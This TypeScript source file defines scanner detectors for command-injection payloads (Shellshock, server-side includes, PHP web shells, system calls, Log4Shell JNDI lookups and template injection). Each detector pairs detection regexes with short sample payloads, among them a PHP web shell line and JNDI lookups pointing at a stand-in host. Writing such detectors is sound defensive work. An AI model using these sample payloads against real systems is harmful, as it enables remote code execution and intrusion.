import type { Detector, Hit } from '../../detector.ts'
import { either, far, inOrder, LINE, near, rest } from '../../search.ts'
import { firstMatchesOf } from '../first-matches.ts'
import { isDocument, isInBackticks, isWholeText } from '../surroundings.ts'
import { isCommandLine, readCommand } from './command-words.ts'

const SHELLSHOCK =
  /\(\)\s{0,2}\{\s{0,2}(?::|_|[a-z]{1,8})?\s{0,2};?\s{0,2}\}\s{0,2};|^["'\s]{0,3}\(\)\s?\{\s{0,3}$/gi

export const shellshock: Detector = {
  id: 'shellshock',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.92,
  summary:
    'a function definition with commands behind it, as an old shell imports from its environment',
  needs: ['() {', '(){'],
  reach: { before: 8, after: 40 },
  source: 'CVE-2014-6271, CVE-2014-7169',
  catches: ['() { :;}; /usr/bin/env', '() { _; }; echo x', '"() {'],
  ignores: ['function f() { return }', 'init() {}', 'const f = () => { go(); };'],
  find: firstMatchesOf(SHELLSHOCK, (match, start, text) => {
    if (/[\w>=]\s?$/.test(text.slice(Math.max(0, start - 2), start))) return null
    if (!match[0].includes('}')) return text.length < 12 ? { confidence: 0.55 } : null
    return isDocument(text) ? { confidence: 0.55 } : {}
  }),
}

const INCLUDE =
  /<!--\s{0,2}#(?:exec(?:\s|%20|\+){1,4}(?:cmd|cgi)|include(?:\s|%20|\+){1,4}(?:virtual|file))\s{0,2}=/gi

export const serverInclude: Detector = {
  id: 'server-side-include',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.9,
  summary: 'a server-side include that runs a command',
  needs: ['#exec', '#include'],
  reach: { before: 16, after: 40 },
  source: 'CWE-97; Apache HTTP Server mod_include',
  catches: ['<!--#exec cmd="ls" -->'],
  ignores: ['#include <stdio.h>', '<!-- #execution plan -->'],
  find: firstMatchesOf(INCLUDE, (match) => ({ confidence: /exec/i.test(match[0]) ? 0.92 : 0.6 })),
}

const CALLS = '(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert)'
const PHP_SHELL = either(
  inOrder(
    /<\?(?:php|=)?\s/gi,
    near(
      80,
      LINE,
      new RegExp(
        `\\b(?:${CALLS}\\s?\\(\\s?["'$@]|(?:include|require)(?:_once)?\\s?\\(?\\s?\\$_)`,
        'gi',
      ),
    ),
  ),
  inOrder(
    new RegExp(`\\b${CALLS}\\s?\\(\\s?`, 'gi'),
    far(40, LINE, /\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b/gi),
  ),
  /\{\$\{@?[a-z_]{2,20}\(|\$\{@[a-z_]{2,20}\(/gi,
)

export const webShell: Detector = {
  id: 'web-shell',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.88,
  summary: 'a line of PHP that runs what a request or a string says',
  needs: [
    '<?php',
    '<?=',
    '<? ',
    '$_get',
    '$_post',
    '$_request',
    '$_cookie',
    '$_server',
    '${@',
    '{${',
  ],
  reach: { before: 100, after: 140 },
  source: 'CWE-94, CWE-78; MITRE ATT&CK T1505.003',
  catches: [
    '<?php system($_GET["c"]); ?>',
    '<?php passthru("id"); ?>',
    '{${sleep(9)}}',
    '${@print(md5(7))}',
  ],
  ignores: ['<?php echo $title; ?>', '$_GET["page"]', 'class="{${name}}"'],
  find: firstMatchesOf(PHP_SHELL, (match, start, text, scene) => {
    const isQuoted =
      scene.kind === 'code' ||
      isDocument(text) ||
      isInBackticks(text, start, start + match[0].length)
    return { confidence: isQuoted ? 0.5 : 0.88 }
  }),
}

const CALL =
  /(?<![\w.>$:\\-])(system|exec|shell_exec|passthru|popen|eval|phpinfo|os\.system|os\.popen|subprocess\.(?:call|run|Popen|check_output))\s?\(\s?(["'`]([^"'`\n]{1,160})|\))/gi

export const systemCall: Detector = {
  id: 'system-call',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.6,
  summary: 'a call that runs a command, where a value is expected',
  needs: [
    'system(',
    'exec(',
    'passthru(',
    'popen(',
    'eval(',
    'phpinfo(',
    'subprocess.',
    'system (',
    'exec (',
  ],
  kinds: ['text', 'json', 'path', 'url', 'id'],
  reach: { before: 24, after: 320 },
  source: 'CWE-94, CWE-78',
  catches: ["system('uname -a');", ';phpinfo();', "x && exec('whoami')"],
  ignores: [
    'call exec("SELECT 1") on the connection',
    'regex.exec(text)',
    'phpinfo() shows the configuration',
    'db.exec("ls")',
  ],
  find: firstMatchesOf(CALL, (match, start, text) => {
    const end = start + match[0].length
    if (text.length > 2_000 || isDocument(text) || isInBackticks(text, start, end)) return null
    const before = text.slice(Math.max(0, start - 24), start)
    const isSeparated = /[;|&]["'\s]{0,4}$|^["'\s]{0,4}$/.test(before)
    const inner = match[3]
    if (inner === undefined) {
      // phpinfo() and nothing else, or behind a separator
      if (!/^phpinfo/i.test(match[1] ?? '')) return null
      const rest = text.slice(end, end + 12)
      return isSeparated && /^\s?(?:;|$|["'/])/.test(rest)
        ? { confidence: before.trim() === '' ? 0.6 : 0.85 }
        : null
    }
    const word = readCommand(inner, 0)
    const isCommand =
      word !== null &&
      (isCommandLine(inner, word) || (word.kind !== 'unknown' && inner.charAt(word.end) === ' '))
    if (!isCommand) return null
    return { confidence: isSeparated ? 0.82 : 0.55 }
  }),
}

const INNERMOST = /\$\{[^{}]{0,74}\}/g
const LONGEST_VALUE = 12

/** What a lookup without lookups inside it stands for: `${::-j}` and `${lower:j}` are `j`. */
function resolved(lookup: string): string {
  const inner = lookup.slice(2, -1)
  const fallback = inner.lastIndexOf(':-')
  const value =
    fallback === -1 ? /^(?:lower|upper):(.*)$/is.exec(inner)?.[1] : inner.slice(fallback + 2)
  return value === undefined || value.length > LONGEST_VALUE ? lookup : value
}
const LOOKUP = /\$\{jndi:\s?(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?|\$)/i

export const jndiLookup: Detector = {
  id: 'jndi-lookup',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.95,
  summary: 'a lookup that makes a logger fetch and run a class, disguised or not',
  needs: [
    'jndi',
    'ndi:',
    '${lower:',
    '${upper:',
    '${::-',
    '${env:',
    '${sys:',
    ':ldap',
    'ldap:',
    'rmi:',
  ],
  reach: { before: 240, after: 240 },
  source: 'CVE-2021-44228; Apache Log4j security page',
  catches: ['${jndi:ldap://drop.example/a}', '${${lower:j}n${::-d}i:rmi://drop.example/a}'],
  ignores: ['jndi:comp/env', 'ldap://ldap.example/', '${env:HOME}'],
  find(text, from, to): readonly Hit[] {
    const start = text.indexOf('${', from)
    if (start === -1 || start >= to) return []
    let window = text.slice(start, Math.min(to, start + 2_000))
    for (let round = 0; round < 8; round += 1) {
      const plain = window.replace(INNERMOST, resolved)
      if (plain === window) break
      window = plain
    }
    return LOOKUP.test(window) ? [{ start, end: Math.min(to, start + 2_000) }] : []
  },
}

const TEMPLATE = either(
  inOrder(
    /\{\{/g,
    near(
      160,
      '{}\n',
      /\.__ ?\w{2,12} ?__|__class__|__globals__|__mro__|\bsubclasses\b|__import__|\bpopen\b|\bget_user_file\s?\(|lipsum\.|cycler\.|request\.application|\.getRuntime\(|constructor\.constructor/gi,
    ),
    rest(200, LINE),
  ),
  /\{\{\s{0,2}[0-9]{1,6}\s{0,2}[*+]\s{0,2}'?[0-9]{1,6}'?\s{0,2}\}\}/g,
  /__import__\(["']os["']\)\.(?:system|popen)|\bgetRuntime\(\)\.exec\(/gi,
)

export const templateInjection: Detector = {
  id: 'template-injection',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.85,
  summary: 'a template expression that reaches for the interpreter behind it',
  needs: [
    '__import__',
    'getruntime()',
    '__class',
    '__mro',
    '__glob',
    '__base',
    '.__ ',
    'subclasses',
    'popen',
    'get_user_file',
    'lipsum.',
    'cycler.',
    'request.application',
    'constructor.constructor',
    ...Array.from('123456789', (digit) => [`{{${digit}`, `{{ ${digit}`]).flat(),
  ],
  reach: { before: 200, after: 300 },
  kinds: ['text', 'json', 'path', 'url', 'prose', 'id', 'description'],
  source: 'CWE-1336; OWASP Server-Side Template Injection',
  catches: ["{{''.__class__.__mro__}}", '{{ 91*13 }}', "__import__('os').system('id')"],
  ignores: ['{{ user.name }}', 'Hello {{ name | upper }}', '{{ count + 1 }}'],
  find: firstMatchesOf(TEMPLATE, (match, start, text) => {
    const end = start + match[0].length
    if (/^\{\{\s{0,2}[0-9]/.test(match[0])) {
      return isWholeText(text, start, end) ? { confidence: 0.6 } : null
    }
    const isQuoted = isDocument(text) || isInBackticks(text, start, end)
    return { confidence: isQuoted ? 0.5 : 0.85 }
  }),
}
